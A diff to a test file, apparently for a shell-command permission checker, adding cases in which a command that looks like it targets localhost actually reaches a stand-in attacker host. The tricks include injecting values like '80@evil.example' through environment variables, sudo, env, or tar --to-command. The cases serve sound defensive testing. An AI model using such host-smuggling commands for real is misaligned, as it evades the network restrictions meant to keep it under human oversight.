@@ -40,7 +40,7 @@ describe('an address of which only the user or the port is known at run time', (
     'curl "http://localhost:$((3000 + 1))/"',
     'curl "https://$GITHUB_ACTOR@github.com/a/b"',
     'git clone "https://$GITHUB_ACTOR@github.com/a/b"',
-    `timeout 5 sh -c 'until curl -s "http://localhost:$PORT"; do sleep 1; done'`,
+    'CI=1 curl "http://localhost:$PORT/"',
   ])('has a known host: %s', (command) => expect(verdictOf(command)).toBe('auto'));
 
   test.each([
@@ -56,6 +56,12 @@ describe('an address of which only the user or the port is known at run time', (
     'nc -q localhost "$HOST" 80',
     'nc "$HOST" "$PORT"',
     'poetry run sh -c \'curl "http://localhost:$PORT/"\'',
+    'LC_ALL=80@evil.example sh -c \'curl "http://localhost:$LC_ALL/"\'',
+    'env CI=80@evil.example timeout 5 sh -c \'curl "http://localhost:$CI/"\'',
+    'sudo PORT=80@evil.example sh -c \'curl "http://localhost:$PORT/"\'',
+    'npx sh -c \'curl "http://localhost:$npm_config_x/"\'',
+    'git submodule foreach \'curl "http://localhost:$name/"\'',
+    'tar -xf a --to-command=\'curl "http://localhost:$TAR_FILENAME/"\'',
     'curl "https://$GITHUB_ACTOR@evil.example/"',
     'nc -z evil.example "$PORT"',
   ])('may have another host: %s', (command) => expect(verdictOf(command)).not.toBe('auto'));
@@ -73,6 +79,15 @@ describe('an address of which only the user or the port is known at run time', (
       command.includes('$PORT') ? 'deny' : 'auto',
     );
   });
+});
+
+test.each([
+  'redis-cli -h good.example -n 1 incrby key 5',
+  'psql -h good.example -c 5',
+  'scp 5 good.example:/a',
+])('a number is a port only where the client takes one: %s', (command) => {
+  const known = policy("mode: auto\ndeny:\n  - { rule: 'web_fetch(*)', except: [good.example] }\n");
+  expect(verdictOf(command, known)).toBe('auto');
 });
 
 describe('curl reaches another host than that of its address', () => {
